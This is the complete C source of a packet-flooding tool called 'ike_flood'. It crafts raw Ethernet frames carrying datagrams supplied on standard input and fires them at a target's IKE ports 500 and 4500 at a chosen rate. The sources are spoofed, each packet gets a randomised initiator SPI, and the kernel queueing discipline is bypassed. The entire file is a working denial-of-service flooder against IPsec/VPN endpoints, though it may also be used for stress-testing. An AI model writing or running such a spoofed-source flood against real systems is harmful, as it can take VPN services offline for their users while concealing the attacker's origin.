/* Sends IKE datagrams that mean nothing, or almost something, at a rate, and prints how many.
 *
 * ike_flood INTERFACE TARGET RATE SECONDS FIRST_SOURCE SOURCES
 *
 * Whole Ethernet frames, which lie there before the first is sent, so that a datagram costs its
 * sender a copy and no more: sources need not be addresses of this machine. The datagrams are on
 * standard input, two octets of length each. They go from one of the sources after the other to
 * port 500 and, with the non-ESP marker, to port 4500, with another initiator's SPI each time. No
 * more than RATE times SECONDS are sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/ip.h>
#include <linux/udp.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <time.h>

#define BATCH 64
#define MOST 8192
#define LONGEST 1400
#define HEADERS (ETH_HLEN + sizeof(struct iphdr) + sizeof(struct udphdr))
#define MARKER 4
#define IKE_HEADER 28

static uint8_t frame[MOST][HEADERS + MARKER + LONGEST];
static uint8_t *spi[MOST]; /* where the initiator's is, in what is long enough for one */
static struct iovec parts[MOST];
static struct mmsghdr messages[MOST];
static uint64_t state = 0x9e3779b97f4a7c15u;

static void fail(const char *what) {
    perror(what);
    exit(1);
}

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

static uint64_t next(void) {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static uint16_t checksum(const struct iphdr *header) {
    const uint16_t *words = (const uint16_t *)header;
    uint32_t sum = 0;
    for (size_t each = 0; each < sizeof *header / 2; each++)
        sum += words[each];
    sum = (sum & 0xffff) + (sum >> 16);
    return ~(sum + (sum >> 16));
}

/* One frame with what standard input has next; 0 at its end. */
static int lay_out(size_t place, in_addr_t source, in_addr_t target) {
    static const uint8_t ethernet[ETH_HLEN] = {2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0};
    uint8_t prefix[2], *octets = frame[place];
    if (fread(prefix, 1, 2, stdin) != 2)
        return 0;
    size_t size = (size_t)prefix[0] << 8 | prefix[1], marker = place & 1 ? MARKER : 0;
    uint8_t *content = octets + HEADERS + marker;
    if (size > LONGEST || fread(content, 1, size, stdin) != size)
        fail("samples");
    struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
                       .tot_len = htons(HEADERS - ETH_HLEN + marker + size),
                       .saddr = source, .daddr = target};
    ip.check = checksum(&ip);
    struct udphdr udp = {.source = htons(1024 + next() % 60000),
                         .dest = htons(marker ? 4500 : 500),
                         .len = htons(sizeof udp + marker + size)}; /* no checksum (RFC 768) */
    memcpy(octets, ethernet, sizeof ethernet);
    memcpy(octets + ETH_HLEN, &ip, sizeof ip);
    memcpy(octets + ETH_HLEN + sizeof ip, &udp, sizeof udp);
    spi[place] = size < IKE_HEADER ? NULL : content;
    parts[place] = (struct iovec){octets, HEADERS + marker + size};
    messages[place].msg_hdr = (struct msghdr){.msg_iov = &parts[place], .msg_iovlen = 1};
    return 1;
}

int main(int argc, char **argv) {
    if (argc != 7) {
        fprintf(stderr, "ike_flood INTERFACE TARGET RATE SECONDS FIRST_SOURCE SOURCES\n");
        return 2;
    }
    struct in_addr target, first;
    if (inet_pton(AF_INET, argv[2], &target) != 1 || inet_pton(AF_INET, argv[5], &first) != 1)
        fail("address");
    double rate = atof(argv[3]), seconds = atof(argv[4]);
    size_t sources = atoi(argv[6]), count = 0;
    while (count < MOST &&
           lay_out(count, htonl(ntohl(first.s_addr) + count % sources), target.s_addr))
        count++;
    if (count < BATCH)
        fail("samples");
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[1])};
    int out = socket(AF_PACKET, SOCK_RAW, 0), one = 1;
    if (out < 0 || bind(out, (struct sockaddr *)&at, sizeof at) ||
        setsockopt(out, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one))
        fail(argv[1]);
    /* Who floods has a machine of its own, which asks nobody here for time. */
    setpriority(PRIO_PROCESS, 0, -20);
    prctl(PR_SET_TIMERSLACK, 1);
    uint64_t sent = 0, most = rate * seconds;
    double start = now();
    for (size_t place = 0; sent < most && now() - start < seconds;) {
        size_t batch = count - place < BATCH ? count - place : BATCH;
        for (size_t each = place; each < place + batch; each++) {
            uint64_t fresh = next();
            if (spi[each])
                memcpy(spi[each], &fresh, sizeof fresh);
        }
        int done = sendmmsg(out, messages + place, batch, 0);
        if (done < 0 && errno != ENOBUFS)
            fail("sendmmsg");
        sent += done > 0 ? done : 0;
        place = (place + batch) % count;
        while (sent > (now() - start) * rate)
            nanosleep(&(struct timespec){0, 100000}, NULL);
    }
    printf("%llu\n", (unsigned long long)sent);
    return 0;
}
